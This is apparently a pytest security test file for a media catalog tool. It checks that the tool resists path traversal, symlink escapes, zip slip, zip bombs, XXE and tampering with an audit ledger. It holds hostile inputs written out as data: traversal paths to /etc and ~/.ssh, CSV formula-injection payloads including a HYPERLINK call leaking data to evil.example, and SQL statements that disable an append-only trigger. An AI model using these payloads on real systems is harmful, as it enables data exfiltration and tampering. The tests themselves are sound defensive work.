"""Security review (issue 7): every place where outside data meets the file system or a parser.

See SECURITY.md for what was reviewed and why each of these is the right behaviour.
"""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile

import pytest
from PIL import Image

from mediadesk.catalog.assets import AssetStore
from mediadesk.catalog.migrations import SEED_PROFILE_NOTE
from mediadesk.cli.main import main
from mediadesk.media import embed_metadata, probe
from mediadesk.services.edits import apply_edits
from mediadesk.services.importer import import_paths

import fuzz_import as fz

HOSTILE_VALUES = [
    "../../../../etc/cron.d/evil",
    "/etc/passwd",
    "..\\..\\Windows\\System32\\evil",
    "C:\\autoexec",
    "name\x00.jpg",
    "\u202egpj.exe",                      # right-to-left override disguising an extension
    "x" * 2000,
    "Ł" * 400,                             # 800 UTF-8 bytes
    "CON", "aux.txt", "..", ".", ".hidden", "a/b/c", "~/.ssh/id_rsa",
    "line\nbreak\r\ttab",
    "manifest.json", "RIGHTS.txt",
]


def jpeg(seed: int, **fields) -> bytes:
    im = Image.new("RGB", (80, 60), ((seed * 37) % 256, (seed * 91) % 256, 40))
    buf = io.BytesIO()
    im.save(buf, "JPEG")
    data = buf.getvalue()
    if fields:
        data, _ = embed_metadata(data, fields)
    return data


def _safe_name(name: str) -> bool:
    from mediadesk.services.bundle_verify import safe_member_name

    return (safe_member_name(name) and len(name.encode("utf-8")) <= 255
            and not any(ord(c) < 32 or c == "\u202e" for c in name))


# -- export names ----------------------------------------------------------------------------
def test_render_name_never_leaves_the_bundle():
    from mediadesk.services.naming import NameAllocator, render_name

    names = NameAllocator()
    for i, value in enumerate(HOSTILE_VALUES):
        for pattern in ("{title}", "{gallery}_{title}", "{original}", "{title}{ext}"):
            name = render_name(pattern, {"title": value, "gallery": value, "original": value,
                                         "date": "2025-03-06", "seq": "001", "id": i}, "jpg",
                               fallback=f"asset-{i}")
            name = names.claim(name, also=(".xmp",))
            assert _safe_name(name), (value, pattern, name)
            assert name.casefold() not in ("manifest.json", "rights.txt", "manifest.csv")
            assert os.path.basename(name) == name


def test_export_with_hostile_titles_writes_only_inside_the_bundle(catalog, tmp_path):
    folder = tmp_path / "media"
    folder.mkdir()
    for i in range(len(HOSTILE_VALUES)):
        (folder / f"p{i}.jpg").write_bytes(jpeg(i, usage_terms=SEED_PROFILE_NOTE))
    import_paths(catalog, [str(folder)], workers=0)
    ids = AssetStore(catalog).all_ids()
    apply_edits(catalog, {aid: {"title": HOSTILE_VALUES[n].replace("\x00", "")[:64] if n % 2 else
                                HOSTILE_VALUES[n].replace("\x00", "")}
                          for n, aid in enumerate(ids)})
    out = tmp_path / "out" / "bundle"
    out.parent.mkdir()
    before = {str(p) for p in tmp_path.rglob("*")}
    rc = main(["--catalog", catalog.target, "export", "--purpose", "editorial-online",
               "--pattern", "{title}", "--out", str(out), *map(str, ids)])
    assert rc in (0, 3)
    created = {str(p) for p in tmp_path.rglob("*")} - before
    outside = [p for p in created if not (p == str(out) or p.startswith(str(out) + os.sep)
                                          or p.startswith(catalog.target))]
    assert outside == [], outside
    members = os.listdir(out)
    assert all(_safe_name(m) for m in members), members
    assert rc == 0 or len(members) >= len(ids)
    assert main(["verify", str(out)]) == 0


def test_export_refuses_an_existing_target_or_symlink(catalog, tmp_path, capsys):
    folder = tmp_path / "media"
    folder.mkdir()
    (folder / "a.jpg").write_bytes(jpeg(1, usage_terms=SEED_PROFILE_NOTE))
    import_paths(catalog, [str(folder)], workers=0)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("precious")
    link = tmp_path / "link"
    link.symlink_to(victim)
    for target in (link, victim):
        rc = main(["--catalog", catalog.target, "export", "--purpose", "editorial-online",
                   "--out", str(target), "1"])
        assert rc == 2
        assert "already exists" in capsys.readouterr().err
    assert os.listdir(victim) == ["keep.txt"]


def test_verify_refuses_zip_slip_members(tmp_path):
    from mediadesk.services.bundle_verify import verify_bundle

    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(bad, "w") as zf:
        zf.writestr("manifest.json", json.dumps({"files": [{"name": "../escape.jpg", "sha256": "0" * 64}]}))
        zf.writestr("../escape.jpg", b"x")
        zf.writestr("/abs.jpg", b"x")
    report = verify_bundle(bad)
    assert not report.ok
    assert not (tmp_path.parent / "escape.jpg").exists()


# -- sidecar names -----------------------------------------------------------------------------
def test_sidecars_are_written_beside_their_file_only(tmp_path):
    from mediadesk.media import sidecar_path_for

    for name in ("clip.mp4", "weird name ..mp4", "..mp4", "a.b.c.mov"):
        path = str(tmp_path / name)
        side = sidecar_path_for(path)
        assert os.path.dirname(side) == str(tmp_path)
        assert os.path.basename(side) == name + ".xmp"


def test_a_sidecar_that_is_a_symlink_to_a_secret_is_not_read_into_the_catalog(catalog, tmp_path):
    secret = tmp_path / "secret.xmp"
    secret.write_bytes(fz._xmp_packet(fz._caption_xml("SECRET-FROM-ELSEWHERE")))
    media = tmp_path / "media"
    media.mkdir()
    (media / "a.jpg").write_bytes(jpeg(3, caption="Own caption"))
    os.symlink(tmp_path / "nowhere", media / "b.jpg.xmp")   # broken link: no crash
    (media / "b.jpg").write_bytes(jpeg(4, caption="Other"))
    report = import_paths(catalog, [str(media)], workers=0)
    assert report.imported == 2


# -- XMP parsing -------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", sorted(fz.HOSTILE_XMP))
def test_hostile_xmp_sidecar_is_parsed_safely(tmp_path, kind):
    import time

    path = tmp_path / "a.jpg"
    path.write_bytes(jpeg(5, caption="Own caption"))
    (tmp_path / "a.jpg.xmp").write_bytes(fz.HOSTILE_XMP[kind]())
    started = time.monotonic()
    result = probe(str(path))
    assert time.monotonic() - started < 10
    text = json.dumps(result.fields, default=str)
    assert "root:" not in text
    assert "lollollol" not in text
    if kind == "long_caption_1mb":
        assert len(result.fields["caption"]) > 1_000_000  # a long value is kept, not a crash


def test_xxe_inside_a_jpeg_never_reads_the_file(tmp_path):
    path = tmp_path / "xxe.jpg"
    path.write_bytes(fz._insert_after_soi(jpeg(6), fz._app1_xmp(fz.external_entity())))
    fields = probe(str(path)).fields
    assert "root:" not in json.dumps(fields, default=str)


# -- CSV ---------------------------------------------------------------------------------------
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def test_csv_export_neutralises_formulas_and_round_trips(catalog, tmp_path):
    from mediadesk.services.csv_io import export_csv, import_csv

    folder = tmp_path / "media"
    folder.mkdir()
    for i in range(len(FORMULAS)):
        (folder / f"p{i}.jpg").write_bytes(jpeg(i))
    import_paths(catalog, [str(folder)], workers=0)
    ids = AssetStore(catalog).all_ids()
    apply_edits(catalog, {aid: {"caption": FORMULAS[n], "headline": FORMULAS[-1 - n]}
                          for n, aid in enumerate(ids)})
    store = AssetStore(catalog)
    stored = [store.get(aid).caption for aid in ids]
    assert stored[0] == FORMULAS[0]
    out = tmp_path / "captions.csv"
    export_csv(catalog, ids, out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("+-").replace(".", "").isdigit(), row
    # importing the same file changes nothing: the apostrophe is taken off again
    result = import_csv(catalog, out)
    assert [store.get(aid).caption for aid in ids] == stored
    assert not getattr(result, "changed", None)


def test_manifest_csv_in_a_bundle_neutralises_formulas():
    from mediadesk.services.bundle_verify import manifest_csv_bytes

    manifest = {"files": [{"name": "a.jpg", "sha256": "0" * 64, "caption": f, "title": f,
                           "asset_id": 1, "role": "media"} for f in FORMULAS]}
    data = manifest_csv_bytes(manifest).decode("utf-8-sig")
    for row in list(csv.reader(io.StringIO(data)))[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row


# -- the ledger --------------------------------------------------------------------------------
def _export_twice(catalog, tmp_path):
    folder = tmp_path / "media"
    folder.mkdir()
    (folder / "a.jpg").write_bytes(jpeg(1, usage_terms=SEED_PROFILE_NOTE))
    import_paths(catalog, [str(folder)], workers=0)
    for n in range(3):
        assert main(["--catalog", catalog.target, "export", "--purpose", "editorial-online",
                     "--recipient", f"Desk {n}", "--out", str(tmp_path / f"b{n}"), "1"]) == 0


@pytest.mark.parametrize("tamper", [
    "UPDATE export_ledger SET recipient = 'Someone else' WHERE id = 2",
    "UPDATE export_ledger SET assets = '[]' WHERE id = 1",
    "DELETE FROM export_ledger WHERE id = 2",
    "DELETE FROM export_ledger WHERE id = 3",
    "UPDATE export_ledger SET purpose = 'advertising', entry_hash = 'x' WHERE id = 3",
])
def test_ledger_tampering_is_detected(catalog, tmp_path, capsys, tamper):
    _export_twice(catalog, tmp_path)
    assert main(["--catalog", catalog.target, "ledger", "--verify"]) == 0
    if catalog.url is not None:
        # a team catalog refuses it even to its owner (issue 13: append-only, SQLSTATE 42501) ...
        from mediadesk.domain.permissions import PermissionDenied

        with pytest.raises(PermissionDenied):
            catalog.execute(tamper)
        # ... who can still drop the guard first: then the chain tells
        catalog.execute("ALTER TABLE export_ledger DISABLE TRIGGER export_ledger_append_only")
    catalog.execute(tamper)     # someone who can write the catalog's tables, outside mediadesk
    capsys.readouterr()
    assert main(["--catalog", catalog.target, "ledger", "--verify"]) == 1
    captured = capsys.readouterr()
    assert "ledger" in (captured.out + captured.err).lower()


# -- symlinks out of an import root ------------------------------------------------------------
def test_symlinks_leading_out_of_the_import_root(catalog, tmp_path):
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "secret.jpg").write_bytes(jpeg(11, caption="Private"))
    (outside / "more.jpg").write_bytes(jpeg(12, caption="Private too"))
    root = tmp_path / "shoot"
    (root / "sub").mkdir(parents=True)
    (root / "own.jpg").write_bytes(jpeg(13, caption="Own"))
    (root / "sub" / "inner.jpg").write_bytes(jpeg(14, caption="Inner"))
    os.symlink(outside, root / "escape_dir")                # folder outside: not followed
    os.symlink(outside / "secret.jpg", root / "linked.jpg")  # file outside: followed, reported
    os.symlink(root / "sub", root / "alias")                 # folder inside: followed (once)
    os.symlink(root / "own.jpg", root / "own_link.jpg")      # file inside: silent
    report = import_paths(catalog, [str(root)], workers=0)
    errors = {os.path.basename(e["path"]): e["error"] for e in report.errors}
    warnings = {os.path.basename(w["path"]): w["warning"] for w in report.warnings}
    paths = {a.path for a in AssetStore(catalog).get_many(AssetStore(catalog).all_ids())}
    assert "outside the folders being imported" in errors["escape_dir"]
    assert "not followed" in errors["escape_dir"]
    assert not any(p.startswith(str(root / "escape_dir")) for p in paths)
    assert str(root / "linked.jpg") in paths
    assert "outside the folders being imported" in warnings["linked.jpg"]
    assert str(outside / "secret.jpg") in warnings["linked.jpg"]
    assert "outside" not in warnings.get("own_link.jpg", "")
    assert "alias" not in errors


def test_importing_the_outside_folder_itself_is_allowed(catalog, tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "x.jpg").write_bytes(jpeg(20))
    root = tmp_path / "root"
    root.mkdir()
    os.symlink(outside, root / "link")
    report = import_paths(catalog, [str(root), str(outside)], workers=0)
    assert report.imported == 1
    assert not any("outside" in e["error"] for e in report.errors)


def test_a_root_that_is_itself_a_symlink_is_followed(catalog, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (real / "x.jpg").write_bytes(jpeg(21))
    os.symlink(real, tmp_path / "alias")
    report = import_paths(catalog, [str(tmp_path / "alias")], workers=0)
    assert report.imported == 1 and report.failed == 0


def test_verify_refuses_a_zip_member_that_declares_gigabytes(tmp_path, monkeypatch):
    """A zip bomb: the manifest member declares more than verify reads into memory."""
    from mediadesk.services import bundle_verify

    bundle = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bundle, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("manifest.json", b"{" + b" " * 4_000_000 + b"}")
        zf.writestr("RIGHTS.txt", b"x")
    monkeypatch.setattr(bundle_verify, "MAX_MANIFEST_BYTES", 1_000_000)
    report = bundle_verify.verify_bundle(bundle)
    assert not report.ok
    assert any("zip bomb" in p for p in report.problems), report.problems


def test_a_killed_exports_staging_folder_is_cleaned_by_the_next_export(tmp_path):
    import time as time_mod

    from mediadesk.domain.rights import Purpose
    from mediadesk.services.export import ExportOptions, plan_export, run_export

    from tests.support.export_fixtures import build_library

    lib = build_library(tmp_path, with_video=False)
    out = tmp_path / "bundles" / "press"
    out.parent.mkdir()
    stale = out.parent / "press.partial-dead1234"
    stale.mkdir()
    (stale / "half.jpg").write_bytes(b"\xff\xd8half")
    marker = stale / ".mediadesk-staging"   # what an export puts in its staging folder
    marker.write_text('{"format": "mediadesk-staging/1"}')
    old = time_mod.time() - 7200
    os.utime(marker, (old, old))
    fresh = out.parent / "press.partial-running"
    fresh.mkdir()
    catalog = lib.open()
    try:
        options = ExportOptions(purpose=Purpose.EDITORIAL_ONLINE)
        result = run_export(catalog, plan_export(catalog, [lib.ids["pl"]], options), out)
        assert result.exported and result.ledger_id
    finally:
        catalog.close()
    assert not stale.exists()
    assert fresh.exists()  # young: another export may still be writing it


def test_the_ledger_entry_exists_before_the_bundle_takes_its_name(tmp_path, monkeypatch):
    from mediadesk.catalog.ledger import LedgerStore
    from mediadesk.domain.rights import Purpose
    from mediadesk.services import bundle_writer
    from mediadesk.services.export import ExportOptions, plan_export, run_export

    from tests.support.export_fixtures import build_library

    lib = build_library(tmp_path, with_video=False)
    seen: list[int] = []
    original = bundle_writer.BundleWriter.publish

    def publish(self):
        with lib.open() as reader:
            seen.append(len(LedgerStore(reader).list()))
        original(self)

    monkeypatch.setattr(bundle_writer.BundleWriter, "publish", publish)
    catalog = lib.open()
    try:
        options = ExportOptions(purpose=Purpose.EDITORIAL_ONLINE)
        run_export(catalog, plan_export(catalog, [lib.ids["pl"]], options), tmp_path / "b")
    finally:
        catalog.close()
    assert seen == [1]
